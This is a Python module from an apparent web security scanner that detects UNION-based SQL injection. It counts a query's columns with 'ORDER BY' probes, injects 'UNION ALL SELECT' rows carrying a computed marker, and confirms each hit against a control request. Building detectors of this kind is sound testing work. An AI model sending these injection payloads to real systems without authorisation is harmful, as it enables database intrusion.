"""Oracle `union`: rows that the payload adds to those of a query are shown, with what the database computed.

How many columns the query has shows in the number of the column that it can still be ordered by. Where the
first and one that no query has are answered alike nothing is asked any more: most points cost two requests.
"""

from fastci import results
from fastci.node.dsl import Attack
from fastci.node.engine.coding import decoded_body
from fastci.node.engine.confirm import Probe
from fastci.node.engine.likeness import Feature, features_of
from fastci.node.engine.sender import Reply

_MOST_COLUMNS = 24
_NO_COLUMN = 9999
_UNION = " UNION"
# As a number, and as a text: a column takes one or both.
_CELLS = ("CALC_MARKER", "CAST(CALC_MARKER AS CHAR(9))")


async def decide_union(probe: Probe, attack: Attack) -> results.Evidence | None:
    """Find the number of columns behind the payload's beginning, then the columns that are shown.

    The rest of the statement is cut off, so only baselines that read are asked. The value is followed by a
    condition that is never true: the added row comes first.
    """
    closing = attack.template.partition(_UNION)[0]
    if probe.point is None or not probe.reads or (not closing and not probe.point.value.isdigit()):
        return None
    asker = _Asker(probe, attack.method or probe.extension.methods[0], closing)
    columns = await asker.columns()
    if not columns:
        return None
    for cells in _rows(columns):
        shown = await asker.added(cells)
        if shown is None:
            continue
        again = await asker.added(cells)
        control = await asker.plain(cells)
        if again is None or control is None:
            return None
        crafted, reply, result = shown
        return results.Evidence(
            payload=crafted.payload,
            matched=f"a row that the payload added is shown: {result}, computed by the database",
            attack=reply.exchange(),
            confirmation=again[1].exchange(),
            control=control.exchange(),
            notes=[f"the query has {columns} columns", "the control adds no row"],
        )
    return None


def _rows(columns: int) -> list[list[str]]:
    """What to put into the columns, in order: the same everywhere, then in one column after the other."""
    everywhere = [[cell] * columns for cell in _CELLS]
    single = [
        [cell if at == column else "NULL" for at in range(columns)]
        for column in range(columns)
        for cell in _CELLS
    ]
    return everywhere + (single if columns > 1 else [])


class _Asker:
    def __init__(self, probe: Probe, method: str, closing: str) -> None:
        assert probe.point is not None
        self._probe = probe
        self._point = probe.point
        self._method = method
        self._closing = closing

    async def _send(self, tail: str) -> tuple[Attack, Reply]:
        markers = self._probe.markers
        crafted = self._probe.extension.craft(
            self._point, self._closing + tail, self._method, markers.fresh(), markers
        )
        return crafted, await self._probe.channel.send(crafted.request)

    async def columns(self) -> int:
        """How many columns the query has; 0 where nothing says that there is one."""
        first, none = await self._ordered(1), await self._ordered(_NO_COLUMN)
        if first == none:
            return 0
        low, high = 1, _MOST_COLUMNS + 1
        while high - low > 1:
            middle = (low + high) // 2
            told = await self._ordered(middle)
            if len(told ^ first) <= len(told ^ none):
                low = middle
            else:
                high = middle
        return low if low < _MOST_COLUMNS else 0

    async def _ordered(self, column: int) -> frozenset[Feature]:
        crafted, reply = await self._send(f" ORDER BY {column} -- ")
        value = self._point.value.decode("utf-8", "replace") + crafted.payload
        return features_of(reply.response, (value, crafted.payload, str(column)))

    async def added(self, cells: list[str]) -> tuple[Attack, Reply, str] | None:
        """A row of these cells added; None where the product in it is not shown."""
        crafted, reply = await self._send(f" AND 1=0 UNION ALL SELECT {','.join(cells)} -- ")
        result = crafted.markers.result
        return (crafted, reply, result) if result.encode() in decoded_body(reply.response) else None

    async def plain(self, cells: list[str]) -> Reply | None:
        """The answer where the same cells are written behind the end of the statement; None where it shows
        the product all the same."""
        crafted, reply = await self._send(f" -- {','.join(cells)}")
        shown = crafted.markers.result.encode() in decoded_body(reply.response)
        return None if shown else reply
